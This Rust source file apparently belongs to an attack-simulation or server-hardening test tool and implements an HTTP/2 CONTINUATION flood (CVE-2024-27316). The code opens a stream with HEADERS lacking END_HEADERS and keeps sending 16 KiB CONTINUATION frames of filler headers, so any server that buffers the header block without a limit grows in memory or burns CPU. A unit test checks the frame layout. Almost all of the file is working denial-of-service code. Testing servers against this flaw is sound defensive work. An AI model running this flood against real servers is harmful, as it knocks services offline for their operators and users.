//! `h2-continuation-flood` (CVE-2024-27316 and kin): on each connection one request whose
//! header block never ends: HEADERS without END_HEADERS, then CONTINUATION frame after
//! CONTINUATION frame of header fields, 16 KiB each. A server that buffers (or decodes) the
//! block until it ends, with no bound, grows or burns CPU for as long as the attacker writes;
//! a bounded one closes the connection once the block passes its header-list limit.

use super::h2_abuse;
use crate::dos::runner::PROBE_PATH;
use crate::h2wire::{self, CONTINUATION, HEADERS, MAX_FRAME};
use crate::scenarios::{Load, Run, Scenario};

/// CONTINUATION frames per write.
pub const FRAMES_PER_ROUND: usize = 4;

/// The registry entry.
pub const SCENARIO: Scenario = Scenario {
    name: "h2-continuation-flood",
    kind: "dos",
    description: "HTTP/2 header block that never ends: endless CONTINUATION frames (CVE-2024-27316)",
    run: Run::Dos(|ctx, counters| {
        Box::pin(h2_abuse::run(
            ctx,
            counters,
            h2_abuse::Abuse { round, read: true },
        ))
    }),
    load: Load::H2Connections,
};

/// One CONTINUATION payload: header fields `x-attack-sim-N: aaa...` filling a frame.
fn fields(r: u32) -> Vec<u8> {
    let mut block = Vec::with_capacity(MAX_FRAME);
    let value = [b'a'; 100];
    let mut n = 0u32;
    while block.len() + 120 <= MAX_FRAME {
        h2wire::push_literal(&mut block, &format!("x-attack-sim-{r}-{n}"), &value);
        n += 1;
    }
    block
}

/// Round 0 opens stream 1 with HEADERS (no END_HEADERS); every round adds
/// [`FRAMES_PER_ROUND`] CONTINUATION frames, none with END_HEADERS.
fn round(host: &str, r: u32) -> Option<h2_abuse::Round> {
    let mut out = Vec::with_capacity((FRAMES_PER_ROUND + 1) * (MAX_FRAME + 9));
    let mut frames = FRAMES_PER_ROUND as u64;
    if r == 0 {
        let block = h2wire::request_block("GET", PROBE_PATH, host);
        h2wire::push_frame(&mut out, HEADERS, 0, 1, &block);
        frames += 1;
    }
    let payload = fields(r);
    for _ in 0..FRAMES_PER_ROUND {
        h2wire::push_frame(&mut out, CONTINUATION, 0, 1, &payload);
    }
    Some((out, frames))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn the_header_block_never_ends() {
        let (first, n) = round("localhost", 0).expect("round 0");
        assert_eq!(n, FRAMES_PER_ROUND as u64 + 1);
        let mut r = &first[..];
        let h = h2wire::read_frame(&mut r).await.expect("headers");
        assert_eq!((h.kind, h.flags, h.stream), (HEADERS, 0, 1));
        for _ in 0..FRAMES_PER_ROUND {
            let c = h2wire::read_frame(&mut r).await.expect("continuation");
            assert_eq!((c.kind, c.flags, c.stream), (CONTINUATION, 0, 1));
            assert!(c.payload.len() <= MAX_FRAME && c.payload.len() > MAX_FRAME - 200);
        }
        assert!(r.is_empty());
        let (next, _) = round("localhost", 7).expect("round 7");
        let c = h2wire::read_frame(&mut &next[..])
            .await
            .expect("continuation");
        assert_eq!((c.kind, c.flags), (CONTINUATION, 0));
    }
}
